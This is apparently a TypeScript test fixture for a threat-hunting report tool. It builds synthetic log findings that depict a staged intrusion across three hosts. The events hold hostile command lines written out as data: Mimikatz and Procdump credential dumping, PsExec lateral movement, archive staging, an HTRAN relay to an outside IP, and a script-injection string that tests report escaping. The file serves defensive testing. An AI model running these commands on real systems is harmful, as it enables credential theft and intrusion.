/**
 * Realistic findings for the report tests: a GALLIUM-style chain over three hosts (IIS web shell on
 * WEB01, credential theft, PsExec to DC01, staging with WinRAR and an HTRAN relay on FS01), with
 * Sysmon- and IIS-shaped events, plus an attacker-controlled command line that tries to break out
 * of the page, a finding without a time, and a DNS indicator hit.
 */
import { Writable } from 'node:stream';
import type { Finding, Level } from '../../src/findings/finding.js';
import { LEVELS, compareFindings } from '../../src/findings/finding.js';
import type { HuntSummary } from '../../src/findings/summary.js';

export const HOSTILE_COMMAND = 'cmd.exe /c echo "</script><script>document.title=\'pwned\'</script><!--" & <img src=x onerror=alert(1)>';

function sysmon1(host: string, record: number, utc: string, image: string, commandLine: string, parent: string, user = 'NT AUTHORITY\\SYSTEM'): Record<string, unknown> {
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: host,
    TimeCreated: utc,
    EventRecordID: record,
    UtcTime: utc.replace('T', ' ').replace('Z', ''),
    ProcessGuid: `{5770385f-${record.toString(16).padStart(4, '0')}-5c7d-0000-00108a3c1e00}`,
    ProcessId: 3000 + (record % 997),
    Image: image,
    OriginalFileName: image.split('\\').pop(),
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: user,
    IntegrityLevel: 'High',
    Hashes: `SHA256=${record.toString(16).padStart(64, 'a')}`,
    ParentImage: parent,
    ParentCommandLine: parent,
  };
}

interface Spec {
  ts: string;
  host: string;
  ruleId: string;
  title: string;
  level: Level;
  attack: string[];
  path: string;
  format: string;
  record: number;
  matched: Record<string, unknown>;
  event: unknown;
  detector?: Finding['detector'];
  intel?: Finding['intel'];
}

function finding(s: Spec): Finding {
  const f: Finding = {
    ts: s.ts,
    detector: s.detector ?? 'sigma',
    rule: { id: s.ruleId, title: s.title, level: s.level },
    attack: s.attack,
    host: s.host,
    source: { path: s.path, record: s.record, format: s.format },
    matched: s.matched,
    event: s.event,
  };
  if (s.intel) f.intel = s.intel;
  return f;
}

const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';

/** The intrusion, in time order (as the engine delivers findings). */
export function intrusionFindings(): Finding[] {
  const out: Finding[] = [];
  const web = 'logs/web01/sysmon.evtx';
  out.push(finding({
    ts: '2019-03-04T10:20:05.000Z', host: 'WEB01', ruleId: 'cw-iis-webshell-post', title: 'POST to a new ASPX page in the web root',
    level: 'medium', attack: ['T1505.003', 'T1190'], path: 'logs/web01/u_ex190304.log', format: 'w3c', record: 1187,
    matched: { 'cs-uri-stem': '/aspnet_client/system_web/errr.aspx', 'cs-method': 'POST' },
    event: {
      date: '2019-03-04', time: '10:20:05', 's-ip': '10.20.1.15', 'cs-method': 'POST', 'cs-uri-stem': '/aspnet_client/system_web/errr.aspx',
      'cs-uri-query': '-', 's-port': 443, 'c-ip': '103.51.145.123', 'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)', 'sc-status': 200,
      'sc-bytes': 2113, 'time-taken': 46,
    },
  }));
  out.push(finding({
    ts: '2019-03-04T10:22:31.120Z', host: 'WEB01', ruleId: 'cw-webshell-child', title: 'Web server process spawned a command shell',
    level: 'high', attack: ['T1505.003', 'T1059.003'], path: web, format: 'evtx', record: 4211,
    matched: { ParentImage: W3WP, Image: 'C:\\Windows\\System32\\cmd.exe' },
    event: sysmon1('WEB01', 4211, '2019-03-04T10:22:31.120Z', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', W3WP, 'IIS APPPOOL\\DefaultAppPool'),
  }));
  out.push(finding({
    ts: '2019-03-04T10:22:40.500Z', host: 'WEB01', ruleId: 'cw-recon-from-webshell', title: 'Discovery commands from a web shell',
    level: 'medium', attack: ['T1033', 'T1016'], path: web, format: 'evtx', record: 4214,
    matched: { CommandLine: 'ipconfig /all' },
    event: sysmon1('WEB01', 4214, '2019-03-04T10:22:40.500Z', 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', 'C:\\Windows\\System32\\cmd.exe', 'IIS APPPOOL\\DefaultAppPool'),
  }));
  out.push(finding({
    ts: '2019-03-04T10:31:02.000Z', host: 'WEB01', ruleId: 'cw-hostile-cmdline', title: 'Suspicious echo through cmd',
    level: 'low', attack: ['T1059.003'], path: web, format: 'evtx', record: 4240,
    matched: { CommandLine: HOSTILE_COMMAND },
    event: sysmon1('WEB01', 4240, '2019-03-04T10:31:02.000Z', 'C:\\Windows\\System32\\cmd.exe', HOSTILE_COMMAND, W3WP),
  }));
  out.push(finding({
    ts: '2019-03-04T10:45:13.250Z', host: 'WEB01', ruleId: 'cw-mimikatz-cmdline', title: 'Mimikatz credential dumping command line',
    level: 'critical', attack: ['T1003.001'], path: web, format: 'evtx', record: 4302,
    matched: { CommandLine: 'c:\\programdata\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit' },
    event: sysmon1('WEB01', 4302, '2019-03-04T10:45:13.250Z', 'C:\\ProgramData\\m64.exe', 'c:\\programdata\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'C:\\Windows\\System32\\cmd.exe'),
  }));
  out.push(finding({
    ts: '2019-03-04T11:02:44.000Z', host: 'WEB01', ruleId: 'cw-psexec-remote', title: 'PsExec started against a remote host',
    level: 'high', attack: ['T1570', 'T1569.002'], path: web, format: 'evtx', record: 4388,
    matched: { CommandLine: 'c:\\programdata\\pe.exe -accepteula \\\\DC01 -s cmd /c c:\\windows\\temp\\pd.bat' },
    event: sysmon1('WEB01', 4388, '2019-03-04T11:02:44.000Z', 'C:\\ProgramData\\pe.exe', 'c:\\programdata\\pe.exe -accepteula \\\\DC01 -s cmd /c c:\\windows\\temp\\pd.bat', 'C:\\Windows\\System32\\cmd.exe'),
  }));
  const dc = 'logs/dc01/Security.evtx';
  out.push(finding({
    ts: '2019-03-04T11:02:47.900Z', host: 'DC01', ruleId: 'cw-psexesvc-install', title: 'PSEXESVC service installed',
    level: 'high', attack: ['T1570', 'T1543.003'], path: 'logs/dc01/System.evtx', format: 'evtx', record: 90211,
    matched: { ServiceName: 'PSEXESVC' },
    event: { EventID: 7045, Channel: 'System', Provider_Name: 'Service Control Manager', Computer: 'DC01.corp.example', TimeCreated: '2019-03-04T11:02:47.900Z', EventRecordID: 90211, ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
  }));
  out.push(finding({
    ts: '2019-03-04T11:05:10.000Z', host: 'DC01', ruleId: 'cw-procdump-lsass', title: 'Procdump of LSASS memory',
    level: 'critical', attack: ['T1003.001'], path: dc, format: 'evtx', record: 771234,
    matched: { CommandLine: 'pd64.exe -accepteula -ma lsass.exe c:\\windows\\temp\\ls.dmp' },
    event: sysmon1('DC01', 771234, '2019-03-04T11:05:10.000Z', 'C:\\Windows\\Temp\\pd64.exe', 'pd64.exe -accepteula -ma lsass.exe c:\\windows\\temp\\ls.dmp', 'C:\\Windows\\System32\\cmd.exe'),
  }));
  out.push(finding({
    ts: '2019-03-04T11:40:00.000Z', host: 'DC01', ruleId: 'ioc:domain:ddns-c2', title: 'Known GALLIUM dynamic DNS domain',
    level: 'high', attack: ['T1071.004'], path: 'logs/dc01/dns.log', format: 'zeek', record: 5521, detector: 'ioc',
    matched: { query: 'update.softether-vpn.dynu.net' },
    intel: { source: 'gallium pack', tags: ['gallium', 'c2'] },
    event: { ts: 1551699600, uid: 'CxT1kd2aV8', 'id.orig_h': '10.20.0.10', 'id.resp_h': '10.20.0.2', query: 'update.softether-vpn.dynu.net', qtype_name: 'A', rcode_name: 'NOERROR' },
  }));
  const fs = 'logs/fs01/sysmon.evtx';
  out.push(finding({
    ts: '2019-03-04T12:15:30.000Z', host: 'FS01', ruleId: 'cw-rar-staging', title: 'WinRAR archive with password into the Recycle Bin',
    level: 'high', attack: ['T1560.001', 'T1074.001'], path: fs, format: 'evtx', record: 1203,
    matched: { CommandLine: 'c:\\$Recycle.Bin\\r.exe a -hpSecret1 -v200m c:\\$Recycle.Bin\\cdr.rar d:\\cdr\\2019-03' },
    event: sysmon1('FS01', 1203, '2019-03-04T12:15:30.000Z', 'C:\\$Recycle.Bin\\r.exe', 'c:\\$Recycle.Bin\\r.exe a -hpSecret1 -v200m c:\\$Recycle.Bin\\cdr.rar d:\\cdr\\2019-03', 'C:\\Windows\\System32\\cmd.exe'),
  }));
  out.push(finding({
    ts: '2019-03-04T12:40:02.000Z', host: 'FS01', ruleId: 'cw-htran-args', title: 'HTRAN-style relay arguments',
    level: 'high', attack: ['T1090.002'], path: fs, format: 'evtx', record: 1250,
    matched: { CommandLine: 'c:\\windows\\temp\\svch.exe -tran 443 45.76.12.80 8080' },
    event: sysmon1('FS01', 1250, '2019-03-04T12:40:02.000Z', 'C:\\Windows\\Temp\\svch.exe', 'c:\\windows\\temp\\svch.exe -tran 443 45.76.12.80 8080', 'C:\\Windows\\System32\\cmd.exe'),
  }));
  out.push(finding({
    ts: '2019-03-04T13:00:00.000Z', host: 'FS01', ruleId: 'cw-unknown-technique', title: 'Rare parent for conhost',
    level: 'informational', attack: ['T1999'], path: fs, format: 'evtx', record: 1301,
    matched: { ParentImage: 'C:\\Windows\\Temp\\svch.exe' },
    event: sysmon1('FS01', 1301, '2019-03-04T13:00:00.000Z', 'C:\\Windows\\System32\\conhost.exe', 'conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\Temp\\svch.exe'),
  }));
  // A finding whose event carried no time (engine ts ''): sorts first.
  out.unshift(finding({
    ts: '', host: 'WEB01', ruleId: 'cw-webshell-file', title: 'Script file written in a web root',
    level: 'medium', attack: ['T1505.003'], path: 'logs/web01/files.jsonl', format: 'jsonl', record: 3,
    matched: { TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errr.aspx' },
    event: { TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errr.aspx', Image: W3WP },
  }));
  return out.sort(compareFindings);
}

/** A HuntSummary consistent with `findings` (what the engine would report). */
export function summaryFor(findings: Finding[], over: Partial<HuntSummary> = {}): HuntSummary {
  const byLevel = Object.fromEntries(LEVELS.map((l) => [l, 0])) as Record<Level, number>;
  const byRule = new Map<string, { id: string; title: string; level: Level; detector: string; count: number }>();
  for (const f of findings) {
    byLevel[f.rule.level]++;
    const r = byRule.get(f.rule.id);
    if (r) r.count++;
    else byRule.set(f.rule.id, { id: f.rule.id, title: f.rule.title, level: f.rule.level, detector: f.detector, count: 1 });
  }
  const paths = new Map<string, string>();
  for (const f of findings) paths.set(f.source.path, f.source.format);
  return {
    tool: { name: 'cellwatch', version: '0.1.0' },
    startedAt: '2026-11-28T12:00:00.000Z',
    elapsedMs: 1834,
    inputs: [...paths].map(([p, format], i) => ({ path: p, format, events: 1000 + i * 731, bytes: 1_048_576 * (i + 1), problems: i === 1 ? 2 : 0 })),
    skippedInputs: ['logs/web01/notes.docx: unknown format'],
    events: [...paths].reduce((a, _, i) => a + 1000 + i * 731, 0),
    badRecords: 2,
    problems: ['logs/web01/u_ex190304.log:line 88: 5 fields where the header declares 14', 'logs/web01/u_ex190304.log:line 92: unterminated quoted field'],
    firstEvent: '2019-03-04T09:58:00.000Z',
    lastEvent: '2019-03-04T13:12:45.000Z',
    rules: { sigma: 42, indicators: 117 },
    findings: findings.length,
    byLevel,
    byRule: [...byRule.values()],
    ...over,
  };
}

export function memoryTarget(): { target: { stream: Writable; isTTY: boolean }; text: () => string; ended: () => boolean } {
  const chunks: string[] = [];
  let ended = false;
  const stream = new Writable({
    write(chunk: Buffer | string, _enc, cb) {
      chunks.push(typeof chunk === 'string' ? chunk : chunk.toString('utf8'));
      cb();
    },
    final(cb) {
      ended = true;
      cb();
    },
  });
  return { target: { stream, isTTY: false }, text: () => chunks.join(''), ended: () => ended };
}
